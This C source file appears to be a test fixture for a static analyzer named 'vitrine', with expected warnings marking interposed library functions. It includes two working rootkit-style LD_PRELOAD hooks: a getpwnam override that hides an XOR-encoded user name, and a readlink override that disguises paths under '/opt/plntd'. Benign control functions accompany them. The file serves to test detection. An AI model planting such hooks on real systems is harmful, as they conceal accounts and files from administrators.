/* What is hidden from those who look at the network and at users. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* The name of a user who does not exist for others, decoded when it is needed. */
static const char *spell(char *to) {
    static const unsigned char hidden[] = {0x34, 0x2b, 0x2a, 0x30, 0x20, 0x37};
    for (int i = 0; i < 6; i++)
        to[i] = (char)(hidden[i] ^ 0x45);
    to[6] = 0;
    return to;
}

struct passwd *getpwnam(const char *name) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: hidden/interposed]}}
    struct passwd *(*real)(const char *) = dlsym(RTLD_NEXT, "getpwnam");
    char own[8];
    if (strcmp(name, spell(own)) == 0)
        return NULL;
    return real(name);
}

/* A link that shows something else. */
ssize_t readlink(const char *path, char *to, size_t size) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: hidden/interposed]}}
    ssize_t (*real)(const char *, char *, size_t) = dlsym(RTLD_NEXT, "readlink");
    ssize_t got = real(path, to, size);
    if (got > 10 && memcmp(to, "/opt/plntd", 10) == 0)
        return real("/proc/1/exe", to, size);
    return got;
}

/* A program that has a function of its own with a usual name, and looks nothing up. */
int good_own(const char *path) {
    return access(path, F_OK);
}

static int good_line(char *line, int size) {
    return fgets(line, size, stdin) && strcmp(line, "cancel\n") != 0;
}

char *getpass(const char *prompt) {
    static char line[64];
    fputs(prompt, stderr);
    return good_line(line, sizeof line) ? line : NULL;
}

/* An option of the environment decides what is counted. */
static ssize_t sent;

static int good_counts(void) {
    return getenv("PLANT_COUNT") != NULL;
}

ssize_t send(int fd, const void *data, size_t size, int flags) {
    ssize_t (*real)(int, const void *, size_t, int) = dlsym(RTLD_NEXT, "send");
    if (good_counts())
        sent += (ssize_t)size;
    return real(fd, data, size, flags);
}
